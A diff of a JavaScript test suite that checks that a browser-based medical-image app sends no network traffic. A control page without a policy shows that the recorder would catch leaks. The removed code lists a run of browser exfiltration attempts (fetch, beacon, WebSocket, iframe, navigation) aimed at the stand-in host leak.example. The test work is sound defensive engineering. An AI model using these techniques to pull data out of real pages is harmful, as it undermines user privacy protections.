@@ -1,93 +1,128 @@
-// Nothing leaves: every connection that the browser opens during a whole job goes to a recorder, which must stay empty.
-// A control page without the policy shows that the recorder would have seen it.
+// Nothing leaves. A whole job, and a page whose own script tries every way out (ways-out.mjs), beside a control page
+// with neither policy nor door, before a recorder of names, connections and datagrams: where the machine gives them a
+// network of their own, of all that is sent; elsewhere of what goes to a proxy, which no question about a name does.
 import assert from 'node:assert/strict';
-import { createServer } from 'node:net';
-import { after, before, describe, test } from 'node:test';
-import { ORIGINS, address, deliverZip, folder, filesIn, launch, lookAndClear, open, paint } from './page.mjs';
-import { ultrasound } from './dicom.mjs';
+import { spawnSync } from 'node:child_process';
+import { describe, test } from 'node:test';
+import { canBeAlone, run } from './alone.mjs';
+import { ORIGINS } from './page.mjs';
+import { HOME_WAYS, WAYS } from './ways-out.mjs';
 
-// What the browser says to its own maker (sign-in, updates) it says with any page open, or none.
-const BROWSERS_OWN = /^(CONNECT|GET|POST) (https?:\/\/)?[\w.-]+\.(google|googleapis|gvt1|gstatic)\.com[:/]/;
+const FIREFOX = process.env.FIREFOX ?? 'firefox-esr';
+const BROWSERS = ['chromium', ...(spawnSync(FIREFOX, ['--version']).status === 0 ? ['firefox'] : [])];
 
-/** A proxy that answers nothing and counts what knocks. */
-function recorder() {
-  const knocks = [];
-  const server = createServer((socket) => {
-    socket.once('data', (bytes) => {
-      const [line] = bytes.toString('latin1').split('\r\n');
-      if (!BROWSERS_OWN.test(line)) knocks.push(line);
-    });
-    socket.on('error', () => {});
-    setTimeout(() => socket.destroy(), 200);
-  });
-  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ knocks, port: server.address().port, close: () => server.close() })));
-}
+/** What a browser says to its own maker. */
+const MAKERS =
+  /^\w+ ([\w-]+\.)*(mozilla\.(com|net|org)|firefox\.com|google\.com|googleapis\.com|gstatic\.com|gvt1\.com)$/;
 
-const ATTEMPTS = `
-  const go = (f) => { try { f(); } catch {} };
-  go(() => fetch('http://leak.example/fetch').catch(() => {}));
-  go(() => { new Image().src = 'http://leak.example/image'; });
-  go(() => navigator.sendBeacon('http://leak.example/beacon', 'x'));
-  go(() => new WebSocket('ws://leak.example/socket'));
-  go(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://leak.example/xhr'); x.send(); });
-  go(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://leak.example/css'; document.head.append(l); });
-  go(() => { const s = document.createElement('iframe'); s.src = 'http://leak.example/frame'; document.body.append(s); });
-  go(() => { const a = document.createElement('a'); a.href = 'http://leak.example/link'; document.body.append(a); a.click(); });
-  go(() => { location.href = 'http://leak.example/location'; });
-  go(() => { window.open('http://leak.example/open'); });
-`;
-
-/** What a page without a policy must be seen to send, so that silence means something. */
-const SEEN = [/\/fetch/, /\/image/, /\/beacon/, /\/xhr/, /\/css/, /\/frame/, /\/open/, /CONNECT leak\.example|\/socket/, /\/link|\/location/];
+/** What the control page must be seen to send in both browsers, so that silence means something. */
+const SENT = [
+  'fetch',
+  'xhr',
+  'websocket',
+  'eventsource',
+  'import',
+  'font',
+  'image',
+  'video',
+  'stylesheet',
+  'css-background',
+  'css-font',
+  'svg-image',
+  'beacon',
+  'script',
+  'object',
+  'frame',
+  'open',
+  'link-tab',
+  'link-detached',
+  'link-detached-event',
+  'link-not-cancelable',
+  'link-shadow',
+  'link-svg',
+  'link-svg-detached',
+  'link-set-html',
+  'link-custom',
+  'link-document',
+  'link-command',
+  'link-xslt',
+  'form-tab',
+  'form-button',
+  'location-href',
+  'meta-refresh',
+  'link-here',
+  'undo-lower',
+  'undo-prevent',
+]
+  .map((way) => `p-${way}`)
+  .concat(['w-fetch', 'w-xhr', 'w-websocket', 'w-import-scripts', 'w-worker-blob']);
+/** And only where questions about names are heard, and an interface looks like one to the outside. */
+const SENT_ALONE = {
+  chromium: ['p-dns-prefetch', 'p-preconnect', 'p-rtc', 'p-rtc-frame', 'p-rtc-window'],
+  firefox: ['p-rtc', 'p-rtc-frame', 'p-rtc-window'],
+};
 
 for (const origin of ORIGINS) {
-  describe(`nothing leaves the page from ${origin}`, () => {
-    let record, browser, site, files;
-    before(async () => {
-      record = await recorder();
-      // The page's own server is on this computer, which the browser reaches without the proxy.
-      browser = await launch({ args: [`--proxy-server=http://127.0.0.1:${record.port}`] });
-      site = await address(origin);
-      files = folder({ 'us.dcm': ultrasound(1) });
-    });
-    after(async () => { await browser.close(); site.close(); record.close(); files.remove(); });
-
-    test('the recorder sees a page that has no policy', async () => {
-      const context = await browser.newContext();
-      const page = await context.newPage();
-      await page.goto('data:text/html,<body></body>');
-      await page.evaluate(`setTimeout(() => { ${ATTEMPTS} }, 0)`);
-      // As long as it takes on a busy machine; and no longer.
-      const all = () => SEEN.every((wanted) => record.knocks.some((line) => wanted.test(line)));
-      for (let wait = 0; wait < 100 && !all(); wait += 1) await page.waitForTimeout(200);
-      await page.waitForTimeout(500);
-      for (const wanted of SEEN) assert.ok(record.knocks.some((line) => wanted.test(line)), `the control page did not leak ${wanted}`);
-      // With the pop-ups it opened; a moment for what they still have under way.
-      await context.close();
-      await new Promise((resolve) => setTimeout(resolve, 1000));
-      record.knocks.length = 0;
-    });
-
-    test('a whole job opens no connection, and neither do attempts from within the page', async () => {
-      const { page, close } = await open(browser, site.url);
-      await page.waitForTimeout(1000);
-      const requests = site.requests();
-      await page.getByTestId('intake-folder').setInputFiles(files.path);
-      await filesIn(page, 1);
-      await page.getByTestId('series').click();
-      await page.waitForFunction(() => document.querySelector('[data-testid=viewer]')?.dataset.columns === '80');
-      await paint(page, [2, 2, 20, 10]);
-      await lookAndClear(page);
-      await deliverZip(page);
-      await page.locator('[data-testid=summary][data-cleaned="1"]').waitFor();
-      assert.deepEqual(record.knocks, []);
-      // A job's own code runs from timers and events: so must the attempts, for evaluated code is exempt from the policy.
-      await page.evaluate(`setTimeout(() => { ${ATTEMPTS}; fetch('./darkroom.wasm').catch(() => {}); }, 0)`);
-      await page.waitForTimeout(1500);
-      assert.deepEqual(record.knocks, []);
-      assert.equal(site.requests(), requests, 'the page asked its own server for something');
-      assert.equal(page.url().split('#')[0], site.url, 'the page was navigated away');
-      await close();
-    });
+  test(`a whole job from ${origin} sends nothing`, async (t) => {
+    if (!canBeAlone)
+      t.diagnostic(
+        'no network of its own to be had here: what a proxy hears is recorded, and no question about a name',
+      );
+    const { alone, heard, asked, counted } = await run('whole-job.mjs', origin);
+    assert.deepEqual(
+      heard.filter(({ by, name }) => alone || !MAKERS.test(`${by} ${name}`)),
+      [],
+    );
+    assert.equal(asked, 0, 'the page asked its own server for something');
+    if (alone) assert.equal(counted.datagrams, 0);
+    // A page from a server has sent what it was fetched with.
+    if (alone && origin === 'file') assert.deepEqual(counted, { packets: 0, datagrams: 0, connections: 0 });
   });
+}
+
+for (const browser of BROWSERS) {
+  for (const origin of ORIGINS) {
+    describe(`every way out of the page from ${origin} in ${browser}`, { concurrency: false }, () => {
+      let control, page;
+
+      test('the recorder sees what a page without policy or door sends', async (t) => {
+        control = await run('attempt.mjs', browser, origin, 'control');
+        assert.deepEqual(control.finished.sort(), ['p-done', 'w-done']);
+        const wanted = [...SENT, ...(control.alone ? SENT_ALONE[browser] : [])];
+        assert.deepEqual(
+          wanted.filter((way) => !control.out.includes(way)),
+          [],
+          'the control page did not send these',
+        );
+        const led = WAYS.filter((way) => control.out.includes(way)).length;
+        t.diagnostic(`${led} of ${WAYS.length} ways lead out of the control page`);
+      });
+
+      test('none leads out of the page', async () => {
+        page = await run('attempt.mjs', browser, origin, 'page');
+        assert.deepEqual(page.finished.sort(), ['p-done', 'w-done']);
+        assert.deepEqual(page.out, []);
+        assert.deepEqual(page.told, [], 'the page told its own server');
+        assert.deepEqual(
+          page.others.filter((other) => !MAKERS.test(other)),
+          [],
+        );
+        // Firefox has something to say to its maker at every start.
+        if (page.alone && browser === 'chromium') assert.equal(page.counted.datagrams, 0);
+        if (page.alone && browser === 'chromium' && origin === 'file') assert.equal(page.counted.packets, 0);
+      });
+
+      test('every way was tried', () => {
+        const ways = [...WAYS, ...(origin === 'http' ? HOME_WAYS : [])];
+        assert.deepEqual(
+          ways.filter((way) => !page.outcomes[way]),
+          [],
+        );
+        assert.deepEqual(
+          ways.filter((way) => !control.outcomes[way]),
+          [],
+        );
+      });
+    });
+  }
 }
